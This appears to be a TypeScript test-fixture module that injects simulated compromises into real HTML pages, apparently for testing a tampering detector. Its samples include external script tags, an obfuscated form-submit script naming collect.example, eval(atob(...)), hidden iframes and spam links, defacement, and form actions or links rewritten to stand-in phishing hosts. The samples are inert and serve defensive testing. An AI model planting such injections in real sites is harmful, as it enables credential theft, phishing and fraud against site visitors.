import { Random } from "./random.ts";

type Attack = (html: string, random: Random) => string | null;

const insertBefore = (html: string, mark: RegExp, added: string) => {
  const at = html.search(mark);
  return at < 0 ? html + added : html.slice(0, at) + added + html.slice(at);
};

/** Small attacks and edits applied to a real page; null if the page has nothing they apply to. */
export const attacks: Record<string, Attack> = {
  "script host": (html) =>
    insertBefore(html, /<\/head>/i, '<script src="https://cdn.jq-mirror.example/j.min.js"></script>'),
  "inline script": (html) =>
    insertBefore(
      html,
      /<\/body>/i,
      '<script>var _0x1a2b=["submit","https://collect.example/c"];document.addEventListener(_0x1a2b[0],function(){},true);</script>',
    ),
  "packed script": (html) => insertBefore(html, /<\/body>/i, '<script>eval(atob("YWxlcnQoMSk="))</script>'),
  frame: (html) =>
    insertBefore(html, /<\/body>/i, '<iframe src="https://landing.example/" style="width:1px"></iframe>'),
  refresh: (html) =>
    insertBefore(html, /<\/head>/i, '<meta http-equiv="refresh" content="0;url=https://promo.example/">'),
  "hidden spam": (html) =>
    insertBefore(
      html,
      /<\/body>/i,
      '<div style="position:absolute;left:-9999px"><a href="https://slots.example/">online casino</a></div>',
    ),
  "hidden links": (html) =>
    insertBefore(
      html,
      /<\/body>/i,
      '<div style="display:none"><a href="https://seo-farm.example/x">plumbing in Ohio</a></div>',
    ),
  defacement: () => "<html><head><title>Owned</title></head><body><h1>Hacked By Somebody</h1></body></html>",
  "form target": (html) =>
    replaceOrNull(html, /(<form[^>]*\saction=["'])[^"']*/i, "$1https://login-check.example/s"),
  "link host": (html, random) =>
    replaceRandom(
      html,
      random,
      /(<a [^>]*href=")https?:\/\/[^"/]+([^"]*"[^>]*>\s*[^<\s][^<]{3,60}<)/gi,
      "$1https://mirror.example$2",
    ),
  "mail swapped": (html) =>
    replaceOrNull(html, /(\shref=["']?)mailto:[\w.+-]+@[\w.-]+/gi, "$1mailto:help@support-desk.example"),
  "sentence added": (html, random) =>
    replaceRandom(html, random, paragraph, "$1$2 By continuing you waive the right to a refund.$3"),
  "word changed": (html, random) =>
    replaceRandom(
      html,
      random,
      /(<p[^>]*>[^<]{40,}?\s)(?:and|or|the|to|und|die|der|les|des|et|de)(\s[^<]*<\/p>)/gi,
      "$1hereby$2",
    ),
  "number changed": (html, random) =>
    replaceRandom(html, random, /(<p[^>]*>[^<©]*?\s)\d{2}(\s\p{L}{3,}[^<]*<\/p>)/giu, "$193$2"),
  "item added": (html, random) =>
    replaceRandom(
      html,
      random,
      /()(<li>[^<]{20,}<\/li>)()/gi,
      "$2<li>Precise location data collected in the background</li>",
    ),
  "paragraph removed": (html, random) => replaceRandom(html, random, /<p>[^<]{60,}<\/p>/gi, ""),
};

const paragraph = /(<p[^>]*>)([^<]{60,})(<\/p>)/gi;

function replaceOrNull(html: string, pattern: RegExp, replacement: string): string | null {
  const replaced = html.replace(pattern, replacement);
  return replaced === html ? null : replaced;
}

function replaceRandom(html: string, random: Random, pattern: RegExp, replacement: string): string | null {
  // Scripts contain strings that look like markup, and comments aren't part of the page: both are blanked out.
  const masked = html.replace(/<!--[^]*?-->|<(script|style|noscript|template)\b[^]*?<\/\1>/gi, (match) =>
    " ".repeat(match.length),
  );
  const candidates = [...masked.matchAll(pattern)];
  if (candidates.length === 0) return null;
  const chosen = random.pick(candidates);
  const singlePattern = new RegExp(pattern.source, pattern.flags.replace("g", ""));
  return (
    html.slice(0, chosen.index) +
    chosen[0].replace(singlePattern, replacement) +
    html.slice(chosen.index + chosen[0].length)
  );
}

export function attack(name: string, html: string, seed: number): string | null {
  return attacks[name]?.(html, new Random(seed)) ?? null;
}
